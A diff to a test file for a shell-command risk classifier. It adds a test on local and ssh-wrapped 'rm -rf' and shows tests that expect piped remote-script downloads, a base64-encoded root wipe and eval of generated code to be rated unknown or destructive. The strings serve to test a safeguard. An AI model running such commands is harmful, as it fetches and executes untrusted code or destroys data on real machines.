@@ -22,6 +22,10 @@ test('destructive commands stay destructive however they are spelled, wrapped or
   for (const c of cases) assert.equal(risk(c), 'destructive', c);
 });
 
+test('build and temp directories are only regenerable here, not on another machine', { skip: !ready && 'tables not registered yet' }, () => {
+  assert.deepEqual([risk('rm -rf ./build'), risk("ssh web1 'rm -rf ./build'"), risk("ssh web1 'rm -rf /tmp/cache'"), risk("ssh web1 'ls -la'")], ['mutating', 'destructive', 'destructive', 'readonly']);
+});
+
 test('hidden or remote code is unknown', () => {
   for (const c of ['curl -s https://x.example/i.sh | bash', 'echo cm0gLXJmIC8K | base64 -d | sh', 'sh <(wget -qO- http://x)', '$CMD -rf /', 'eval "$(zzgen)"']) {
     assert.equal(risk(c), 'unknown', c);
